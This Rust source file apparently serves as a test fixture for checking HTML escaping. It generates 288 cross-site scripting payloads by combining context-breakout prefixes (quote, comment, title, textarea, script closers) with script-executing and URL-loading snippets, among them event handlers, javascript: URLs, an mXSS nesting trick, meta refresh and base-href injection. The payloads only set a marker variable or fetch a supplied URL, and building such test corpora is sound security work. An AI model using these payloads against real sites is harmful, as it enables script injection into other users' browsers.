//! Cross-site scripting payloads: every way to break out of a context in HTML, combined with every way to act.

/// Breaks out of the text of an element, an attribute, a comment, and elements whose text is not parsed.
const WAYS_OUT: [&str; 12] = [
    "",
    "\">",
    "'>",
    "\" ",
    "' ",
    "--!>",
    "</title>",
    "</textarea>",
    "</style>",
    "</option></select>",
    "</script>",
    "]]>",
];

/// Runs a script or requests `{url}`. `{mark}` is the statement that scripts run.
const DEEDS: [&str; 24] = [
    "<script>{mark}</script>",
    "<ScRiPt/x>{mark}</sCrIpT >",
    "<script src={url}></script>",
    "<img src=x onerror={mark}>",
    "<img src=\"{url}\">",
    "<svg/onload={mark}>",
    "<svg><script>{mark}</script></svg>",
    "<iframe srcdoc=\"&lt;script>parent.{mark}&lt;/script>\"></iframe>",
    "<iframe src=\"javascript:parent.{mark}\"></iframe>",
    "<a href=\"javascript:{mark}\" autofocus onfocus={mark}>x</a>",
    "<input autofocus onfocus={mark}>",
    "<details open ontoggle={mark}>",
    "<body onpageshow={mark}>",
    "<meta http-equiv=refresh content=\"0;url={url}\">",
    "<base href=\"{url}\">",
    "<link rel=stylesheet href=\"{url}\">",
    "<style>@import '{url}';*{background:url({url})}</style>",
    "<object data=\"{url}\"></object>",
    "<video><source onerror={mark}></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror={mark}>",
    "<form action=\"{url}\"><button autofocus>x</button></form>",
    "<marquee onstart={mark}>x</marquee>",
    "onmouseover={mark} onfocus={mark} autofocus style=background:url({url}) x=",
    "javascript:{mark}//{{7*7}}${7*7}<%= 7*7 %>",
];

/// The variable that scripts of payloads set, and that tests check.
pub const MARK: &str = "window.formsvcRan";

/// Returns every combination: 288 payloads. Payloads that request a URL request `url`.
pub fn payloads(url: &str) -> Vec<String> {
    let mut payloads = Vec::with_capacity(WAYS_OUT.len() * DEEDS.len());
    for way_out in WAYS_OUT {
        for deed in DEEDS {
            let deed = deed.replace("{mark}", &format!("{MARK}=1")).replace("{url}", url);
            payloads.push(format!("{way_out}{deed}"));
        }
    }
    payloads
}
